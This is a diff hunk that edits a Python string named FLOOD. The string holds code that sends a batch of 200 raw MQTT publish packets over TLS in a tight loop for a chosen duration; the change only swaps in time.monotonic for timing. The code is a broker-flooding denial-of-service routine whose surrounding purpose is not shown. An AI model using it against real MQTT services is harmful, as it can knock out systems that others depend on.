@@ -85,8 +85,8 @@ FLOOD = """
     topic = b"whodrives/car/preferences/result"
     body = len(topic).to_bytes(2, "big") + topic + bytes(1) + b"x" * 50
     many = (b"\\x30" + bytes([len(body)]) + body) * 200
-    until = clock.now_s() + float(seconds)
-    while clock.now_s() < until:
+    until = time.monotonic() + float(seconds)
+    while time.monotonic() < until:
         tls.sendall(many)
 """
 
